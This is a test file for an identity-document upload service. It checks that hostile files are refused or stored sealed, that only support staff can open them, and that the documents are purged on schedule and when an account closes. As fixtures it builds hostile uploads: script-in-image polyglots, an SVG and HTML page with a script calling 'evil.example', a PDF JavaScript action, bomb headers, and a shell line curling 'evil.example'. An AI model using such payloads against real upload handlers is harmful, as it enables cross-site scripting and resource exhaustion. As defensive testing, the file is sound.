/**
 * Documents of an identity check: hostile files are refused or stay sealed, only the staff's console
 * opens them, and after their days nothing of them is left (spec/identity#documents).
 */
import { randomBytes } from "node:crypto";
import { forTests } from "@turnpike/net/testing/for-tests.ts";
import { sql } from "kysely";
import { sized } from "@turnpike/net/testing/full.ts";
import { documentPartBytes } from "@turnpike/rules/identity-document.ts";
import { describe, expect, it } from "vitest";
import { startTestConsole } from "../../across/console/testing.ts";
import { operate } from "../../across/operator/testing.ts";

const CANARY = "CANARY-7f3d9a52";
const SCRIPT = `<script>fetch("https://evil.example/${CANARY}")</script>`;

const api = forTests(startTestConsole);
const support = forTests(() => api.person("support"));

interface Answer {
  code: number;
  data: Record<string, never> & { reason?: string; id?: string; partBytes?: number };
}
const ask = async (name: string, session: string, fields: object = {}): Promise<Answer> => {
  const answer = await fetch(`${api.url}/v1/${name}`, {
    method: "POST",
    headers: { "content-type": "application/json" },
    body: JSON.stringify({ session, ...fields }),
  });
  return (await answer.json()) as Answer;
};
const sendPart = (session: string, id: string, number: number, bytes: Uint8Array<ArrayBuffer>) =>
  fetch(`${api.url}/v1/identityPart?document=${id}&number=${number}`, {
    method: "POST",
    headers: { "content-type": "application/octet-stream", "x-session": session },
    body: bytes,
  });

/** Uploads a file as a browser does; returns its id, or why it was refused. */
async function upload(session: string, file: Buffer): Promise<{ id: string } | { reason: string }> {
  const { data } = await ask("identityUpload", session, { bytes: file.length });
  const { id } = data;
  if (!id) return { reason: data.reason ?? "" };
  for (let number = 0; number * documentPartBytes < file.length; number++) {
    const start = number * documentPartBytes;
    const part = new Uint8Array(file.subarray(start, start + documentPartBytes));
    const answer = await sendPart(session, id, number, part);
    if (!answer.ok) return { reason: ((await answer.json()) as Answer).data.reason ?? "" };
  }
  const done = await ask("identityUploaded", session, { id });
  return done.code === 0 ? { id } : { reason: done.data.reason ?? "" };
}

const bytesOf = (...parts: (string | number[] | Buffer)[]) =>
  Buffer.concat(
    parts.map((part) =>
      typeof part === "string" ? Buffer.from(part, "latin1") : Buffer.from(part),
    ),
  );
const segment = (marker: number, content: string) =>
  bytesOf([0xff, marker, (content.length + 2) >> 8, (content.length + 2) & 0xff], content);
const frame = (width: number, height: number) =>
  bytesOf(
    [0xff, 0xc0, 0, 17, 8, height >> 8, height & 0xff, width >> 8, width & 0xff, 3],
    Buffer.alloc(9),
  );
const jpeg = (...segments: Buffer[]) =>
  bytesOf([0xff, 0xd8], ...segments, frame(1_200, 800), [0xff, 0xda], SCRIPT, [0xff, 0xd9]);
const word = (value: number) => [
  value >>> 24,
  (value >> 16) & 255,
  (value >> 8) & 255,
  value & 255,
];
const png = (width: number, height: number, more = "") =>
  bytesOf(
    "\u0089PNG\r\n\u001a\n",
    word(13),
    "IHDR",
    word(width),
    word(height),
    [8, 2, 0, 0, 0],
    word(0),
    more,
  );
const webp = (width: number) =>
  bytesOf(
    "RIFF",
    [0, 0, 1, 0],
    "WEBPVP8X",
    [10, 0, 0, 0, 0, 0, 0, 0],
    [width & 255, (width >> 8) & 255, width >> 16, 99, 0, 0],
    SCRIPT,
  );
const isTaken = true;

/** Hostile files, and whether they are taken: as what they are, they run nothing. */
const hostile: [what: string, taken: boolean, make: () => Buffer][] = [
  ["a GIF that is a script", false, () => bytesOf(`GIF89a/*${CANARY}*/=1;alert(1)`)],
  ["a page in a JPEG's comment", isTaken, () => jpeg(segment(0xfe, SCRIPT))],
  ["a script in EXIF", isTaken, () => jpeg(segment(0xe1, `Exif\0\0${SCRIPT}`))],
  ["a page behind a PNG", isTaken, () => png(600, 400, SCRIPT)],
  ["a WebP with a page", isTaken, () => webp(500)],
  ["a PDF with a script", isTaken, () => bytesOf(`%PDF-1.7\n/OpenAction /JavaScript (${CANARY})`)],
  ["SVG", false, () => bytesOf(`<svg xmlns="http://www.w3.org/2000/svg">${SCRIPT}</svg>`)],
  ["a page", false, () => bytesOf(`<!doctype html>${SCRIPT}`)],
  ["a page before a PDF", false, () => bytesOf(`${SCRIPT}%PDF-1.7`)],
  ["a zip bomb", false, () => bytesOf("PK\u0003\u0004", randomBytes(4_000), CANARY)],
  ["a gzip bomb", false, () => bytesOf([0x1f, 0x8b, 8, 0], randomBytes(4_000))],
  ["a PNG of 2,500 million points", false, () => png(50_000, 50_000)],
  ["a PNG without points", false, () => png(0, 7)],
  ["a WebP that is too wide", false, () => webp(60_000)],
  ["a JPEG that only begins as one", false, () => bytesOf([0xff, 0xd8, 0xff, 0xe0], SCRIPT)],
  ["a JPEG of segments without end", false, () => bytesOf([0xff, 0xd8], Buffer.alloc(9_000, 0xff))],
  ["30 MB", false, () => bytesOf([0xff, 0xd8, 0xff], Buffer.alloc(30_000_000))],
  ["a HEIC", false, () => bytesOf([0, 0, 0, 24], "ftypheic", CANARY)],
  ["a program", false, () => bytesOf("\u007fELF", CANARY)],
  ["a shell script", false, () => bytesOf(`#!/bin/sh\ncurl evil.example/${CANARY}`)],
];

/** How many places of the database show the canary: every table, as a dump would print it. */
async function shownAnywhere(): Promise<string[]> {
  const { rows } = await sql<{ name: string }>`
    select c.relname as name from pg_class c
    where c.relnamespace = current_schema()::regnamespace and c.relkind = 'r'`.execute(api.db);
  const found: string[] = [];
  for (const { name } of rows) {
    const { rows: hits } = await sql`
      select from ${sql.ref(name)} t where t::text like ${`%${CANARY}%`}
        or t::text like ${`%${Buffer.from(CANARY).toString("hex")}%`} limit 1`.execute(api.db);
    if (hits.length > 0) found.push(name);
  }
  return found;
}
const count = async (table: "identity_document" | "identity_document_part") =>
  (await sql`select from ${sql.table(table)}`.execute(api.db)).rows.length;

describe("Documents (spec/identity#documents)", () => {
  it("of hostile uploads, 1,000 in a full run, are refused or stay sealed; the console opens them as pictures or bytes, and logs it", async () => {
    const customer = await api.register();
    const { session } = customer;
    const rounds = sized(hostile.length, 1_000) / hostile.length;
    for (let round = 0; round < rounds; round++) {
      const results: [string, boolean][] = [];
      for (const [what, , make] of hostile) {
        const file = make();
        const done = await upload(session, file);
        results.push([what, "id" in done]);
        expect([what, "id" in done ? "badDocument" : done.reason]).toEqual([what, "badDocument"]);
        const { items } = await support.get("identityDocuments", { account: customer.id });
        expect(items).toHaveLength("id" in done ? 1 : 0);
        if (!("id" in done)) continue;
        const opened = await support.get("identityDocument", { id: done.id });
        expect(Buffer.from(opened.base64, "base64").equals(file)).toBe(true);
        expect(opened.type).toMatch(/^(image\/(jpeg|png|webp)|application\/octet-stream)$/);
        expect(opened.type.startsWith("image/")).toBe(!opened.fileName.endsWith(".pdf"));
        const isLookedFor = round === 0 && what.includes("PNG");
        expect(isLookedFor ? await shownAnywhere() : []).toEqual([]);
        expect((await ask("identityDel", session, { id: done.id })).code).toBe(0);
      }
      expect(results).toEqual(hostile.map(([what, taken]) => [what, taken]));
    }
    expect(await count("identity_document")).toBe(0);
    expect(await count("identity_document_part")).toBe(0);
    const { items } = await (await api.person("owner")).get("auditList", {
      action: "identity.view",
    });
    expect(items[0]).toMatchObject({ actor: support.email, accountId: customer.id });
  }, 600_000);

  it("opens for the staff however its id was written by who sent it", async () => {
    const { session } = await api.register();
    const file = png(600, 400);
    const { id = "" } = (await ask("identityUpload", session, { bytes: file.length })).data;
    expect((await sendPart(session, id.toUpperCase(), 0, new Uint8Array(file))).ok).toBe(true);
    expect((await ask("identityUploaded", session, { id: id.toUpperCase() })).code).toBe(0);
    const { base64 } = await support.get("identityDocument", { id });
    expect(Buffer.from(base64, "base64").equals(file)).toBe(true);
  });

  it("are the owner's alone to send, in parts of their size, and open to nobody else", async () => {
    const [one, other] = [await api.register(), await api.register()];
    const file = bytesOf(png(900, 900), randomBytes(600_000));
    const { data } = await ask("identityUpload", one.session, { bytes: file.length });
    const id = data.id ?? "";
    const first = new Uint8Array(file.subarray(0, documentPartBytes));
    expect((await sendPart(other.session, id, 0, first)).status).toBe(404);
    expect((await sendPart("nobody", id, 0, first)).status).toBe(403);
    expect((await sendPart(one.session, id, 0, first.slice(1))).status).toBe(400);
    expect((await sendPart(one.session, id, 7, first)).status).toBe(400);
    const large = new Uint8Array(documentPartBytes + 1);
    expect((await sendPart(one.session, id, 0, large)).status).toBe(413);
    expect((await sendPart(one.session, id, 0, first)).status).toBe(200);
    expect((await ask("identityUploaded", one.session, { id })).data.reason).toBe("badDocument");
    expect((await ask("identityUploaded", other.session, { id })).data.reason).toBe(
      "documentNotFound",
    );
    expect((await ask("identityDel", other.session, { id })).data.reason).toBe("documentNotFound");
    const finance = await api.person("finance");
    expect((await finance.ask("identityDocument", { id })).refused.reason).toBe("notPermitted");
    const { items } = await support.get("identityDocuments", { account: one.id });
    expect(items).toEqual([]);
  });

  it("are handed in once, then closed; after their days they are gone, and so are broken uploads", async () => {
    const { session, email, id: accountId } = await api.register();
    const advance = (seconds: number) =>
      fetch(`${api.url}/lab/clock`, {
        method: "POST",
        body: new URLSearchParams({ advanceSeconds: String(seconds) }),
      });
    const { data: page } = await ask("identityStart", session);
    expect(page).toEqual({ url: `${api.services.env.publicUrl}/cli/identity` });
    expect((await ask("identityHandIn", session)).data.reason).toBe("badDocument");
    await upload(session, png(700, 500, SCRIPT));
    await ask("upTokenCache", session, { minutes: 0 });
    expect((await ask("identityHandIn", session)).data).toMatchObject({
      identity: "pending",
      canHandIn: false,
      triesLeft: 4,
    });
    expect(await upload(session, png(700, 500))).toEqual({ reason: "identityClosed" });
    const { items } = await support.get("identityList", { state: "pending" });
    expect(items).toMatchObject([{ accountId, email, waitsForCustomer: false }]);
    // What waits for a decision is kept.
    await advance(40 * 86_400);
    expect(await count("identity_document")).toBeGreaterThan(0);
    await operate(api.services, "identity", "more", email, "--reason", "selfie");
    expect((await ask("identityInfo", session)).data).toMatchObject({
      identity: "pending",
      waitsForYou: true,
      canHandIn: true,
      because: "Please add a photo of yourself with the document in your hand.",
    });
    await upload(session, jpeg());
    await ask("identityHandIn", session);
    await operate(api.services, "identity", "approve", email);
    await advance(29 * 86_400);
    expect(await count("identity_document_part")).toBe(2);
    await advance(2 * 86_400);
    expect(await count("identity_document")).toBe(0);
    expect(await count("identity_document_part")).toBe(0);
    expect((await ask("member", session)).data).toMatchObject({ identity: "approved" });
  });

  it("are gone when the account is closed, handed in or not; those of others stay", async () => {
    const [leaver, stayer] = [await api.register(), await api.register()];
    for (const { session } of [leaver, stayer]) {
      await upload(session, png(700, 500, SCRIPT));
      await ask("upTokenCache", session, { minutes: 0 });
      await ask("identityHandIn", session);
    }
    await operate(api.services, "identity", "more", leaver.email, "--reason", "selfie");
    await upload(leaver.session, jpeg());
    expect(await count("identity_document")).toBe(3);
    await ask("mailCode", leaver.session, { scene: "cancel", email: leaver.email });
    const mails = await fetch(`${api.url}/lab/mails?to=${leaver.email}`);
    const [mail] = (await mails.json()) as { text: string }[];
    const code = /^\d{6}$/m.exec(mail?.text ?? "")?.[0];
    const closing = { password: "Passw0rd!x", confirm: 1, code };
    expect((await ask("cancel", leaver.session, closing)).code).toBe(0);
    await api.services.modules.jobs
      .find(({ name }) => name === "clear-closed-accounts")
      ?.run(api.services);
    expect(await count("identity_document")).toBe(1);
    expect(await count("identity_document_part")).toBe(1);
    const staff = await api.person("support");
    const { items } = await staff.get("identityDocuments", { account: stayer.id });
    expect(items).toHaveLength(1);
  });
});
